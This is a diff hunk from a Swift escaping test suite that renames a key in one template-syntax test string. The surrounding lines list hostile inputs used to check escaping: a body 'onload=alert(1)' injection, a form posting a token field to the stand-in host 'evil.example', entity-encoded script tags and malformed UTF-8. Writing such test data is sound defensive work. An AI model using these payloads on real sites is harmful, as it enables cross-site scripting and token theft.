@@ -20,7 +20,7 @@ struct EscapingTests {
         "</title></head><body onload=alert(1)>",
         "</pre></details></main><form action=//evil.example><input name=token>",
         "&lt;script&gt; &#x3c;b&#x3e; &notin; &",
-        "{{{frame.person.token}}} {{>layout}} {{#rows}}{{/rows}}",
+        "{{{layout.person.token}}} {{>layout}} {{#rows}}{{/rows}}",
         scalars(0x61, 0, 1, 0x7f, 0x85, 0xfffe, 0xfdd0, 0x10ffff, 0x20, 0xd, 0xa, 0x9),
         String(decoding: [0x3c, 0xc0, 0xaf, 0xff, 0xfe, 0x3e, 0xed, 0xa0, 0x80] as [UInt8], as: UTF8.self),
         "<!-- --> <![CDATA[ ]]> <?php ?> <!doctype html>",
